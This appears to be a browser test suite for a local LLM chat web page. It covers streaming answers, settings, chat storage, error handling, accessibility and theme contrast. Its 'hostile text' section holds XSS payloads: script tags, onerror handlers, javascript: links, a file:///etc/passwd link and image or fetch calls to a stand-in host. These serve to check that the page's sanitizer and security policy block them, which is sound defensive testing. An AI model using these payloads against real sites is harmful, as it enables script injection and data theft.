"""The chat page in a real browser (headless Chromium) on the real server.

The browser is driven over its debugging pipe with nothing but the standard library. Needs chromium; without it
everything here is skipped.
"""
import base64
import json
import os
import re
import select
import shutil
import socket
import subprocess
import tempfile
import time

import pytest

from conftest import ENDLESS, ROOT, WAIT_S

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine")

PAGE = (ROOT / "web" / "index.html").read_text(encoding="utf-8")
KEYS = {"Enter": 13, "Escape": 27, "ArrowUp": 38, "O": 79}
CTRL, SHIFT = 2, 8


class Browser:
    def __init__(self):
        self.home = tempfile.TemporaryDirectory(ignore_cleanup_errors=True)
        to_read, self.to = os.pipe()
        self.fro, fro_write = os.pipe()

        def child():  # the browser reads commands from 3 and writes answers to 4
            os.dup2(to_read, 20)
            os.dup2(fro_write, 21)
            os.dup2(20, 3)
            os.dup2(21, 4)

        flags = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--remote-debugging-pipe",
                 "--user-data-dir=" + self.home.name, "about:blank"]
        self.process = subprocess.Popen([CHROMIUM, *flags], close_fds=False, preexec_fn=child,
                                        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        os.close(to_read)
        os.close(fro_write)
        self.n, self.rest, self.events, self.session = 0, b"", [], None
        target = next(t for t in self.call("Target.getTargets")["targetInfos"] if t["type"] == "page")
        self.session = self.call("Target.attachToTarget", targetId=target["targetId"], flatten=True)["sessionId"]
        for domain in ("Page", "Runtime", "Network", "Log"):
            self.call(domain + ".enable")

    def _read(self):
        end = time.monotonic() + WAIT_S
        while b"\0" not in self.rest:
            assert select.select([self.fro], [], [], max(0, end - time.monotonic()))[0], "the browser hangs"
            got = os.read(self.fro, 1 << 20)
            assert got, "the browser died"
            self.rest += got
        message, self.rest = self.rest.split(b"\0", 1)
        return json.loads(message)

    def call(self, method, **params):
        self.n += 1
        message = {"id": self.n, "method": method, "params": params}
        if self.session:
            message["sessionId"] = self.session
        data = json.dumps(message).encode() + b"\0"
        while data:
            data = data[os.write(self.to, data):]
        while True:
            answer = self._read()
            if answer.get("id") == self.n:
                assert "error" not in answer, answer
                return answer["result"]
            self.events.append(answer)

    def js(self, expression):
        r = self.call("Runtime.evaluate", expression=expression, awaitPromise=True, returnByValue=True, userGesture=True)
        assert "exceptionDetails" not in r, r["exceptionDetails"]
        return r["result"].get("value")

    def until(self, expression, seconds=WAIT_S):
        end = time.monotonic() + seconds
        while not self.js(expression):
            assert time.monotonic() < end, f"never true: {expression}\n{self.js('document.body.innerText')[-800:]}"
            time.sleep(0.03)

    def open(self, url):
        self.call("Page.navigate", url=url)
        self.until(f"document.readyState === 'complete' && location.href.startsWith({json.dumps(url)})")

    def size(self, width, height=800, mobile=False):
        self.call("Emulation.setDeviceMetricsOverride", width=width, height=height, deviceScaleFactor=1, mobile=mobile)

    def key(self, key, mods=0):
        for kind in ("keyDown", "keyUp"):
            extra = {"text": "\r"} if key == "Enter" and kind == "keyDown" else {}
            self.call("Input.dispatchKeyEvent", type=kind, key=key, code="KeyO" if key == "O" else key, modifiers=mods,
                      windowsVirtualKeyCode=KEYS[key], **extra)

    def type(self, text):
        self.call("Input.insertText", text=text)

    def requests(self):
        return [e["params"]["request"] for e in self.events if e["method"] == "Network.requestWillBeSent"]

    def exceptions(self):
        return [e["params"]["exceptionDetails"] for e in self.events if e["method"] == "Runtime.exceptionThrown"]

    def close(self):
        self.process.kill()
        self.process.wait()
        os.close(self.to)
        os.close(self.fro)
        self.home.cleanup()


IDLE = "running.size === 0"
ANSWER = "[...document.querySelectorAll('.msg.ai')].at(-1)"
ANSWER_TEXT = ANSWER + "?.querySelector('.md').textContent || ''"


@pytest.fixture(scope="module")
def browser():
    b = Browser()
    yield b
    b.close()


@pytest.fixture
def page(browser, server):
    """The page, as on a first visit. Nothing may throw in it, and nothing may leave for elsewhere."""
    return visit(browser, server.url)


def visit(b, url):
    b.size(1100)
    b.call("Emulation.setEmulatedMedia", features=[])
    b.open(url + "/")
    b.js("running.forEach(r => r.ctl.abort()); localStorage.clear(); sessionStorage.clear()")
    b.open("about:blank")
    b.events.clear()
    b.open(url + "/")
    b.until("server.up !== null")
    return b


@pytest.fixture(autouse=True)
def calm(request):
    yield
    if "browser" in request.fixturenames:
        b = request.getfixturevalue("browser")
        b.js("1")
        assert b.exceptions() == []


def ask(b, text, wait=True):
    b.js("$('input').focus()")
    b.type(text)
    b.key("Enter")
    b.until("chat.msgs.length > 0")
    if wait:
        b.until(IDLE)


def short(b, tokens=12, seed=1):
    """Answers of the small model are cut, or a test takes minutes."""
    b.js(f"settings.max_tokens = '{tokens}'; settings.seed = '{seed}'; settings.temperature = '0'; saveSettings()")


def texts(b):
    return b.js("chat.msgs.map(m => m.role === 'user' ? m.text : answerOf(m).text)")


# ---- talking ------------------------------------------------------------------------------------------------


def test_the_model_is_named_and_an_answer_streams_in_with_its_figures(page):
    page.until("$('model').textContent === server.model && server.model !== null")
    short(page, 60)
    page.js("window.sizes = new Set(); new MutationObserver(() => sizes.add((%s).length)).observe($('msgs'),"
            "{childList: true, subtree: true, characterData: true})" % ANSWER_TEXT)
    ask(page, "Tell me about the sea.")
    assert page.js("sizes.size") > 3  # it grew, more than once
    stats = page.js(ANSWER + ".querySelector('.stats').textContent")
    used = page.js("answerOf(chat.msgs[1]).usage")
    assert "tok/s" in stats and "first token" in stats
    assert f"{used['completion_tokens']} tokens" in stats and f"prompt {used['prompt_tokens']}" in stats
    assert page.js("$('ctx').hidden") is False
    assert page.js("$('ctx').textContent").startswith(str(used["total_tokens"]))


def test_the_request_holds_what_was_set_and_nothing_else(page):
    ask_body = lambda: json.loads([r for r in page.requests() if r["method"] == "POST"][-1]["postData"])
    page.js("settings.max_tokens = '1'; saveSettings()")
    ask(page, "Hello")
    body = ask_body()
    assert set(body) == {"model", "messages", "stream", "stream_options", "max_tokens"} and body["max_tokens"] == 1
    page.js("$('tune').click()")
    for name, value in {"temperature": "0,5", "top_p": "0.9", "top_k": "40", "min_p": "0.05",
                        "seed": "9007199254740993", "system": "Be brief."}.items():
        page.js(f"$('f-{name}').focus()")
        page.type(value)
    page.js("$('f-top_k').focus()")
    page.type("x")
    assert page.js("$('f-top_k').getAttribute('aria-invalid')") == "true"
    assert "whole number" in page.js("$('f-top_k').closest('.set').querySelector('.err').textContent")
    page.key("Escape")
    ask(page, "Again")
    raw = [r for r in page.requests() if r["method"] == "POST"][-1]["postData"]
    body = json.loads(raw)
    assert (body["temperature"], body["top_p"], body["top_k"], body["min_p"]) == (0.5, 0.9, 40, 0.05)
    assert '"seed":9007199254740993}' in raw  # all 64 bits of it
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    assert page.js("answerOf(chat.msgs[3]).seed") == "9007199254740993"
    page.js("$('tune').click(); $('reset').click(); $('settings').close()")
    ask(page, "Once more", wait=False)
    page.js("stop(chat)")
    page.until(IDLE)
    assert set(ask_body()) == {"model", "messages", "stream", "stream_options"}


def test_stop_keeps_what_came_and_frees_the_server(page, server):
    page.js("settings.seed = '1'; settings.temperature = '0'; saveSettings()")
    ask(page, ENDLESS, wait=False)
    page.until(f"({ANSWER_TEXT}).length > 20")
    page.js("$('send').click()")
    page.until(IDLE)
    assert "stopped" in page.js(ANSWER + ".querySelector('.stats').textContent")
    assert len(texts(page)[1]) > 10
    server.wait_idle()
    ask(page, "Write a very long story about a fox.", wait=False)
    page.until(f"({ANSWER_TEXT}).length > 5")
    page.key("Escape")
    page.until(IDLE)
    server.wait_idle()
    ask(page, "Go on with the story.", wait=False)
    page.js("$('new').click()")  # another chat does not disturb it; deleting the chat ends it
    assert page.js("running.size") == 1
    page.js("deleteChat(store.index()[0])")
    page.until(IDLE)
    server.wait_idle()
    assert page.js("store.index().length") == 0


def test_regenerate_edit_continue_and_fork(page):
    short(page, 6)
    ask(page, "Name a colour.")
    ask(page, "Name an animal.")
    page.js(ANSWER + ".querySelector('[aria-label=\"Another answer\"]').click()")
    page.until(IDLE)
    assert page.js("chat.msgs[3].v.length") == 2
    assert page.js(ANSWER + ".querySelector('.count').textContent") == "2 / 2"
    page.js(ANSWER + ".querySelector('[aria-label=\"Previous answer\"]').click()")
    assert page.js("chat.msgs[3].i") == 0
    cut_at = texts(page)[3]
    page.js("[..." + ANSWER + ".querySelectorAll('button')].find(b => b.textContent === 'Continue').click()")
    page.until(IDLE)
    sent = json.loads([r for r in page.requests() if r["method"] == "POST"][-1]["postData"])["messages"]
    assert sent[-1] == {"role": "assistant", "content": cut_at}
    assert texts(page)[3].startswith(cut_at) and page.js("!answerOf(chat.msgs[3]).error")
    page.js(ANSWER + ".querySelector('[aria-label=\"New chat from here\"]').click()")
    assert page.js("store.index().length") == 2
    page.js("$('input').focus()")
    page.key("ArrowUp")  # edits the last message
    page.until("document.activeElement.tagName === 'TEXTAREA' && document.activeElement.value === 'Name an animal.'")
    page.type(" A big one.")
    page.key("Enter")
    page.until(IDLE)
    assert texts(page)[2] == "Name an animal. A big one." and len(texts(page)) == 4
    page.js("document.querySelector('[aria-label=\"Edit and send again\"]').click()")  # the first: later turns go
    page.key("Enter")
    page.until(IDLE)
    assert len(texts(page)) == 2
    page.js("[...document.querySelectorAll('.toast button')].at(-1).click()")  # and come back
    assert len(texts(page)) == 4 and page.js("document.querySelectorAll('.msg').length") == 4


def test_keys(page):
    short(page, 2)
    page.js("$('input').focus()")
    page.type("one")
    page.key("Enter", SHIFT)
    page.type("two")
    assert page.js("$('input').value.split('\\n').length") == 2
    page.key("Enter")
    page.until("chat.msgs.length === 2 && " + IDLE)
    assert texts(page)[0] == "one\ntwo"
    page.key("O", CTRL | SHIFT)
    assert page.js("chat.msgs.length") == 0
    page.type("/system Speak softly.")
    page.key("Enter")
    assert page.js("settings.system") == "Speak softly." and page.js("chat.msgs.length") == 0
    page.type("/new")
    page.key("Enter")
    assert page.js("$('input').value") == ""


def test_a_text_file_goes_along_and_others_are_refused_with_the_reason(page):
    short(page, 2)
    page.js("attach([new File(['alpha\\n```\\nbeta'], 'notes.md'), new File(['\\0'], 'x.bin'),"
            "new File(['x'], 'p.png', {type: 'image/png'}), new File(['y'.repeat(300000)], 'big.txt')])")
    shown = page.js("$('toasts').textContent")
    assert "x.bin is not a text file" in shown and "does not read images" in shown and "the limit is 262,144" in shown
    ask(page, "Look at this.")
    sent = json.loads([r for r in page.requests() if r["method"] == "POST"][-1]["postData"])["messages"][0]["content"]
    assert sent == "Look at this.\n\nnotes.md:\n````md\nalpha\n```\nbeta\n````"


# ---- what is kept -------------------------------------------------------------------------------------------


def test_a_reload_keeps_the_chat(page, server):
    short(page, 8)
    ask(page, "Name a river.")
    before, shown = texts(page), page.js("$('msgs').innerText")
    page.call("Page.reload")
    page.until("document.readyState === 'complete' && typeof chat === 'object' && chat.msgs.length === 2")
    assert texts(page) == before and page.js("$('msgs').innerText") == shown
    assert page.js("document.querySelectorAll('#list li').length") == 1
    assert page.js("settings.max_tokens") == "8"
    page.js("settings.max_tokens = ''; saveSettings()")
    ask(page, "Tell me a very long story about it.", wait=False)
    page.until(f"({ANSWER_TEXT}).length > 20")
    page.call("Page.reload")
    page.until("document.readyState === 'complete' && typeof chat === 'object' && chat.msgs.length === 4")
    assert len(texts(page)[3]) > 10  # cut off, and kept
    assert "cut off" in page.js(ANSWER + ".textContent") and "Continue" in page.js(ANSWER + ".textContent")
    server.wait_idle()


def test_chats_are_listed_renamed_searched_and_deleted(page):
    short(page, 2)
    for text in ("First question about trees", "Second question about rivers"):
        page.js("newChat()")
        ask(page, text)
    names = "[...document.querySelectorAll('#list .open')].map(b => b.textContent)"
    assert page.js(names) == ["Second question about rivers", "First question about trees"]
    page.js("$('find').value = 'TREES'; $('find').dispatchEvent(new Event('input'))")
    assert page.js(names) == ["First question about trees"]
    page.js("$('find').value = ''; $('find').dispatchEvent(new Event('input'))")
    page.js("document.querySelectorAll('#list li')[1].querySelector('.icon').click();"
            "document.querySelectorAll('#list li')[1].querySelector('.acts button').click()")
    page.type("Oak <b>and</b> beech")
    page.key("Enter")
    assert page.js(names) == ["Second question about rivers", "Oak <b>and</b> beech"]
    page.js("[...document.querySelectorAll('#list li')[1].querySelectorAll('.acts button')].at(-1).click()")
    assert len(page.js(names)) == 1
    page.js("[...document.querySelectorAll('.toast button')].at(-1).click()")
    assert len(page.js(names)) == 2


def test_storage_is_bounded(page):
    page.js("for (let i = 0; i < 205; i++) store.save({id: 'c' + i, title: 't', at: i, msgs: []})")
    assert page.js("store.index().length") == page.js("CHATS_MAX")
    page.js("for (let i = 0; i < 12; i++) store.save({id: 'd' + i, title: 't', at: 1000 + i,"
            "msgs: [{role: 'user', text: 'x'.repeat(600000)}]})")
    kept = page.js("store.index().map(e => e.id)")
    assert kept[0] == "d11" and len(kept) < 8 and page.js("store.load('d11') !== null && store.load('d0') === null")
    assert page.js("Object.keys(localStorage).filter(k => k.startsWith('ingle.chat.')).length") == len(kept)


# ---- hostile text -------------------------------------------------------------------------------------------

HOSTILE = """<script>window.pwned = 1; fetch('http://127.0.0.2:9/script')</script>

<img src=x onerror="window.pwned = 2"> <iframe src="http://127.0.0.2:9/frame"></iframe> <svg onload=alert(1)>

[a](javascript:window.pwned=3) [b](data:text/html,<script>1</script>) ![leak](http://127.0.0.2:9/q?secret)
![c](javascript:alert(1)) <javascript:alert(1)> [d](vbscript:x) [e](  javascript:alert(1)) [f](&#106;avascript:1)
[g](//127.0.0.2:9/x) [h](file:///etc/passwd) [i](JaVaScRiPt:1) [j](java\tscript:1) [k](http://ok.example/ "t\\"><img src=x>")

<style>body { display: none }</style> <a href="javascript:alert(1)">x</a> <base href="http://127.0.0.2:9/">

| <img src=http://127.0.0.2:9/t> | b |
|---|---|
| ![x](http://127.0.0.2:9/cell) | `<b>` |

> <object data="http://127.0.0.2:9/o"></object>

1. <meta http-equiv=refresh content="0;url=http://127.0.0.2:9/m">

```html"><script>window.pwned=4</script>
<script>window.pwned = 5</script>
"""


def test_hostile_markdown_does_nothing_and_nothing_leaves(page, server):
    page.js("window.opened = []; window.open = u => opened.push(u)")
    page.js("""(() => {
        const text = %s, c = {...blankChat(), title: '<img src=x onerror=window.pwned=6>', msgs: [
            {role: 'user', text}, {role: 'assistant', i: 0, v: [{text, think: text, error: text, hint: text, end: 'stop'}]}]};
        store.save(c);
        openChat(c);
        const el = h('div');
        $('msgs').append(el);
        const m = new Markdown(el);
        for (let i = 1; i <= text.length; i++) m.update(text.slice(0, i), i === text.length);
    })()""" % json.dumps(HOSTILE))
    time.sleep(0.5)
    assert page.js("typeof window.pwned") == "undefined" and page.js("opened.length") == 0
    assert page.js("$('msgs').querySelectorAll('script, iframe, img, object, style, base, meta, form, [onerror], [onload]').length") == 0
    links = page.js("[...$('msgs').querySelectorAll('a')].map(a => [a.getAttribute('href'), a.rel, a.target])")
    assert links, "some of it is a link"
    for href, rel, target in links:
        assert re.match(r"https?://", href), href
        assert "noopener" in rel and "noreferrer" in rel and target == "_blank"
    assert not [r["url"] for r in page.requests() if not r["url"].startswith((server.url, "data:image/svg+xml"))]
    assert page.js("getComputedStyle(document.body).display") != "none"


def test_the_policy_lets_nothing_in_but_the_page_itself(page, server):
    policy = server.get("/").headers["Content-Security-Policy"]
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    page.js("""
        window.violations = [];
        document.addEventListener('securitypolicyviolation', e => violations.push(e.effectiveDirective));
        for (const go of [
            () => { const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s); },
            () => { const d = document.createElement('div'); d.innerHTML = '<img src=x onerror="window.pwned = 2">'; document.body.append(d); },
            () => { const i = new Image(); i.src = 'http://127.0.0.2:9/image'; },
            () => { fetch('http://127.0.0.2:9/fetch').catch(() => 0); },
        ]) try { go(); } catch { violations.push('refused'); }""")
    page.until("violations.length >= 4")
    assert page.js("typeof window.pwned") == "undefined"


def test_the_page_names_nothing_outside_and_fits_in_its_bound():
    assert len(PAGE.encode()) <= 300 * 1024
    outside = set(re.findall(r"https?://[^\s\"'`)<>\\]+", PAGE)) - {"http://www.w3.org/2000/svg"}
    assert outside == set() and "@import" not in PAGE and "url(" not in PAGE
    assert len(re.findall(r"<script\b", PAGE)) == 1 and len(re.findall(r"<style\b", PAGE)) == 1
    markup = re.sub(r"(?s)<(script|style)>.*?</\1>", "", PAGE)
    assert not re.search(r"\son\w+=|\sstyle=", markup)
    assert "innerHTML" not in PAGE and "insertAdjacentHTML" not in PAGE and "eval(" not in PAGE


MARKDOWN = ["# Head\n\npara *em* **strong** ~~gone~~ `code`\nnext line\n\n- a\n  - b\n    1. c\n\n  d\n- [x] e\n\n> q\nlazy\n\n---\n"
            "| a | b |\n|:-:|--:|\n| 1 | `x|y` |\nafter\n\n```py\nx = 1 # note\n```\nend",
            "1. one\n\n   more\n\n2. two\n- x\n* y\n\n~~~\n``` inside\n~~~\n\nhttp://a.example/b_(c). <https://d.example>\\\nbreak  \nhard",
            "**open\n\n`open\n\n" + "*" * 90 + "a" + "_" * 40 + "\n\n" + "[" * 60 + "\n\r\nCR\r\nLF\r\n\n```\nnever closed\n", HOSTILE]


@pytest.mark.parametrize("text", MARKDOWN, ids=["blocks", "lists", "unclosed", "hostile"])
def test_a_growing_answer_ends_as_the_whole_one(page, text):
    different = page.js("""(() => {
        const d = %s, whole = h('div');
        new Markdown(whole).update(d, true);
        const bad = [];
        for (const step of [1, 2, 3, 7, 40]) {
            const el = h('div'), m = new Markdown(el);
            for (let i = step; i < d.length; i += step) m.update(d.slice(0, i), false);
            m.update(d, true);
            if (el.innerHTML !== whole.innerHTML) bad.push([step, el.innerHTML, whole.innerHTML]);
        }
        return bad;
    })()""" % json.dumps(text))
    assert different == []


def test_markdown_means_what_it_should(page):
    def html(text):
        return page.js("(() => { const el = h('div'); new Markdown(el).update(%s, true); return el.innerHTML; })()" % json.dumps(text))

    assert html("a *b* **c** ***d*** ~~e~~ _f_ g_h_i 2*3*4") == (
        "<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong></em> <del>e</del> <em>f</em> g_h_i 2<em>3</em>4</p>")
    assert html("- a\n  - b\n\n1. c\n2. d") == "<ul><li>a<ul><li>b</li></ul></li></ul><ol><li>c</li><li>d</li></ol>"
    assert html("3. x") == '<ol start="3"><li>x</li></ol>'
    assert html("> a\n> b") == "<blockquote><p>a<br>b</p></blockquote>"
    assert html("`` a`b `` \\*c\\*") == "<p><code>a`b</code> *c*</p>"
    assert html("### h ###") == "<h3>h</h3>"
    assert html("a\n***\nb") == "<p>a</p><hr><p>b</p>"
    assert "$x^2$" in html("math $x^2$ stays")
    assert page.js("""(() => { const el = h('div'); new Markdown(el).update('```c\\nint a;\\n\\tb\\n```', true);
        return el.querySelector('.code').source; })()""") == "int a;\n\tb"


def test_events_cut_anywhere_are_the_same_events(page):
    assert page.js("""(() => {
        const bytes = new TextEncoder().encode('data: {"a":"\\u00e9\\ud83d\\udd25"}\\r\\n\\r\\n: ping\\n\\ndata: x\\ndata: y\\r\\rdata:[DONE]\\n\\n');
        const run = next => {
            const out = [], r = new SseReader(x => out.push(x), x => out.push(':' + x));
            for (let i = 0; i < bytes.length;) { const n = next(); r.feed(bytes.slice(i, i + n)); i += n; }
            r.feed();
            return JSON.stringify(out);
        };
        const whole = run(() => bytes.length);
        let seed = 1;
        for (let k = 1; k < 400; k++) if (run(() => 1 + (seed = seed * 16807 % 2147483647) % (k % 9 + 1)) !== whole) return 'cut ' + k;
        return whole;
    })()""") == json.dumps(['{"a":"é🔥"}', ":ping", "x\ny", "[DONE]"], ensure_ascii=False, separators=(",", ":"))


# ---- when things go wrong -----------------------------------------------------------------------------------


def test_an_error_is_shown_by_its_message_with_what_to_do(page):
    ask(page, "word " * 9000)
    shown = page.js(ANSWER + ".querySelector('.note').innerText")
    assert re.search(r"\d{4,}", shown) and "Start a new chat" in shown and "[object" not in page.js("document.body.innerText")
    assert page.js("errorText({error: {message: {message: 'deep'}}})") == "deep"
    assert page.js("errorText({odd: [1]})") == '{"odd":[1]}'
    short(page, 2)
    page.js("newChat()")
    ask(page, "Hello")
    assert page.js(ANSWER + ".querySelector('.note.bad')") is None


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_a_server_that_goes_and_comes_back(browser, start_server):
    port = str(free_port())
    first = start_server("--port", port, "--drain-timeout", "1")
    b = visit(browser, first.url)
    b.js("settings.temperature = '0'; saveSettings()")
    ask(b, ENDLESS, wait=False)
    b.until(f"({ANSWER_TEXT}).length > 20")
    first.process.kill()
    b.until(IDLE)
    b.until("!$('banner').hidden")
    assert "not answering" in b.js("$('banner').innerText")
    kept = texts(b)[1]
    assert len(kept) > 10 and "kept" in b.js(ANSWER + ".querySelector('.note').innerText")
    start_server("--port", port)
    b.until("$('banner').hidden")
    short(b, 4)
    b.js("[..." + ANSWER + ".querySelectorAll('button')].find(b => b.textContent === 'Continue').click()")
    b.until(IDLE)
    assert texts(b)[1].startswith(kept)


def test_a_key_is_asked_for_once(browser, start_server):
    b = visit(browser, start_server("--api-key", "sesame").url)
    b.until("$('keys').open")
    b.js("$('key').focus()")
    b.type("wrong")
    b.key("Enter")
    b.until("$('keys').open && $('keys-why').textContent.includes('not accepted')")
    b.js("$('key').focus()")
    b.type("sesame")
    b.key("Enter")
    b.until("server.model !== null")
    short(b, 2)
    ask(b, "Hello")
    assert b.js("!!answerOf(chat.msgs[1]).usage") and not b.js("$('keys').open")
    assert b.js("sessionStorage.getItem('ingle.key')") == "sesame" and b.js("JSON.stringify(localStorage).includes('sesame')") is False
    b.call("Page.reload")
    b.until("document.readyState === 'complete' && server.model !== null")
    assert not b.js("$('keys').open")


def test_a_base_model_is_told_before_anybody_writes(browser, start_server, base_model, tmp_path):
    port = str(free_port())
    first = start_server("--port", port, model=base_model)
    b = visit(browser, first.url)
    b.until("server.model !== null")
    shown = b.js("$('empty').innerText")
    assert "completes text" in shown and f"curl {first.url}/v1/completions" in shown
    assert "generate path/to/model --raw" in shown and "--chat-template FILE" in shown
    assert b.js("$('input').disabled && $('send').disabled && $('clip').disabled")
    assert b.js("getComputedStyle(document.querySelector('.tries')).display") == "none"
    assert b.js(CONTRAST) == []
    for width in (320, 390, 1280):
        b.size(width, 800, mobile=width < 500)
        assert b.js("document.documentElement.scrollWidth") <= width
        assert b.js("$('log').scrollWidth <= $('log').clientWidth + 1")
        assert b.js("$('log').scrollTop") == 0 and b.js("$('jump').hidden")
    first.stop()
    template = tmp_path / "template"
    template.write_text("{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}")
    b.until("!$('banner').hidden || (checkServer(), false)")
    start_server("--port", port, "--chat-template", str(template), model=base_model)
    b.until("!$('input').disabled")  # with a template it chats
    assert b.js("$('base').hidden") and b.js("document.querySelectorAll('.tries button')[0].offsetParent !== null")
    short(b, 2)
    ask(b, "Hello")
    assert b.js("!!answerOf(chat.msgs[1]).usage")


# ---- how it looks and feels -----------------------------------------------------------------------------------


def long_chat(b, n):
    b.js("""(() => {
        const msgs = [];
        for (let i = 0; i < %d; i++) msgs.push({role: 'user', text: 'question ' + i}, {role: 'assistant', i: 0,
            v: [{text: '**Answer** ' + i + '\\n\\n- one\\n- two\\n\\n' + 'words '.repeat(60), end: 'stop'}]});
        const c = {...blankChat(), title: 'long', msgs};
        store.save(c);
        openChat(c);
    })()""" % n)
    b.until(f"document.querySelectorAll('.msg').length === {2 * n}")


def test_a_long_chat_is_not_built_again_for_each_token(page):
    long_chat(page, 150)
    page.until("$('log').scrollHeight - $('log').clientHeight - $('log').scrollTop < 4")  # it opens at its end
    page.js("settings.max_tokens = '30'; settings.seed = '1'; saveSettings(); chat.msgs.splice(0, 290)")
    page.js("""window.touched = new Set();
        new MutationObserver(list => { for (const m of list) {
            const el = m.target.closest ? m.target.closest('.msg') : m.target.parentElement?.closest('.msg');
            if (el) touched.add(el);
        } }).observe($('msgs'), {childList: true, subtree: true, characterData: true})""")
    ask(page, "One more question.")
    assert page.js("touched.size") <= 3  # the new two, and the foot of the one before


def test_scrolling_up_ends_the_following_and_the_end_begins_it(page):
    long_chat(page, 20)
    page.js("settings.seed = '1'; saveSettings(); chat.msgs.splice(0, 36)")
    ask(page, "Tell me a long story.", wait=False)
    page.until(f"({ANSWER_TEXT}).length > 30")
    page.call("Input.dispatchMouseEvent", type="mouseWheel", x=600, y=400, deltaX=0, deltaY=-900)
    page.until("!follow")
    top, length = page.js("$('log').scrollTop"), page.js(f"({ANSWER_TEXT}).length")
    page.until(f"({ANSWER_TEXT}).length > {length} + 40 || {IDLE}")
    assert abs(page.js("$('log').scrollTop") - top) < 40 and page.js("!$('jump').hidden")
    page.js("$('jump').click()")
    page.until("$('log').scrollHeight - $('log').clientHeight - $('log').scrollTop < 40")
    assert page.js("follow && $('jump').hidden")
    page.key("Escape")
    page.until(IDLE)


WIDE = "# Title\n\n```c\n" + "int x = 1; " * 40 + "\n```\n\n| a | b | c | d | e |\n|-|-|-|-|-|\n| " + " | ".join(["some words here"] * 5) + \
       " |\n\n" + "w" * 400 + "\n\nhttps://example.com/" + "p" * 300


@pytest.mark.parametrize("width", [320, 412, 760, 1280])
def test_nothing_is_wider_than_the_screen(page, width):
    page.size(width, 800, mobile=width < 500)
    page.js("""(() => { const text = %s, c = {...blankChat(), msgs: [{role: 'user', text}, {role: 'assistant', i: 0, v: [{text, end: 'stop'}]}]};
        openChat(c); })()""" % json.dumps(WIDE))
    assert page.js("document.documentElement.scrollWidth") <= width
    assert page.js("$('log').scrollWidth <= $('log').clientWidth + 1")
    assert page.js("document.querySelector('pre').scrollWidth > document.querySelector('pre').clientWidth")  # it scrolls inside
    if width <= 760:
        page.until("getComputedStyle($('side')).visibility === 'hidden'")
        page.js("$('menu').click()")
        page.until("getComputedStyle($('side')).visibility === 'visible' && document.activeElement === $('new')")
        page.key("Escape")
        page.until("getComputedStyle($('side')).visibility === 'hidden'")


def test_everything_has_a_name_and_a_place_for_a_finger(page):
    short(page, 2)
    ask(page, "Hello")
    page.js("document.querySelector('#list .icon').click(); $('tune').click()")
    nameless = page.js("""[...document.querySelectorAll('button, input, textarea, [role=region]')].filter(el =>
        el.offsetParent && !(el.getAttribute('aria-label') || el.textContent.trim() || el.labels?.length)).map(el => el.outerHTML)""")
    assert nameless == []
    page.js("$('settings').close()")
    page.size(412, 800, mobile=True)
    small = page.js("""[...document.querySelectorAll('main button')].filter(el => el.offsetParent).map(el => [el.getBoundingClientRect(), el.outerHTML])
        .filter(([r, html]) => (r.width < 24 || r.height < 24) && !html.includes('keep seed')).map(x => x[1])""")
    assert small == []
    assert page.js("document.querySelector('#say').getAttribute('aria-live')") == "polite"


CONTRAST = """(() => {
    const rgb = s => s.match(/[\\d.]+/g).slice(0, 3).map(Number), alpha = s => Number(s.match(/[\\d.]+/g)[3] ?? 1);
    const light = c => { const [r, g, b] = c.map(v => (v /= 255) <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4); return .2126 * r + .7152 * g + .0722 * b; };
    const back = el => { for (; el; el = el.parentElement) { const s = getComputedStyle(el).backgroundColor; if (alpha(s) === 1) return rgb(s); } return [255, 255, 255]; };
    const bad = [], walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walk.nextNode()) {
        const el = walk.currentNode.parentElement;
        if (!walk.currentNode.data.trim() || !el.checkVisibility() || el.closest('script, style, .sr, .skip, button:disabled')) continue;
        const a = light(rgb(getComputedStyle(el).color)), b = light(back(el)), c = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
        if (c < 4.5) bad.push([el.outerHTML.slice(0, 120), c.toFixed(2)]);
    }
    return bad;
})()"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_contrast_is_enough_in_both_themes(page, scheme):
    page.call("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
    short(page, 2)
    ask(page, "Hello")
    page.js("""(() => { const text = '# H\\n\\n> quote\\n\\n[l](http://x.example) `code`\\n\\n```py\\nfor i in f(1): # no\\n  "s"\\n```\\n\\n|a|\\n|-|\\n|b|';
        const msgs = [['length'], ['lost'], ['stop', 'Failed']].flatMap(([end, error]) => [{role: 'user', text: 'q'}, {role: 'assistant', i: 0, v: [{text, end, error, hint: error}]}]);
        openChat({...blankChat(), msgs}); setServer('down'); clearInterval(retryTimer); retryTimer = 0; })()""")
    dark = page.js("getComputedStyle(document.body).backgroundColor.match(/\\d+/)[0] < 100")
    assert dark == (scheme == "dark")
    assert page.js(CONTRAST) == []
    page.js("$('tune').click()")
    assert page.js(CONTRAST) == []
    page.js("$('settings').close(); checkServer(); $('theme').click()")  # auto, then light
    assert page.js("getComputedStyle(document.body).backgroundColor.match(/\\d+/)[0] > 200")


if __name__ == "__main__":  # a look at it: test_page.py URL FILE.png [WIDTH]
    import sys

    eye = Browser()
    eye.size(int(sys.argv[3]) if len(sys.argv) > 3 else 1280, 860)
    eye.open(sys.argv[1])
    time.sleep(1)
    with open(sys.argv[2], "wb") as f:
        f.write(base64.b64decode(eye.call("Page.captureScreenshot")["data"]))
    eye.close()
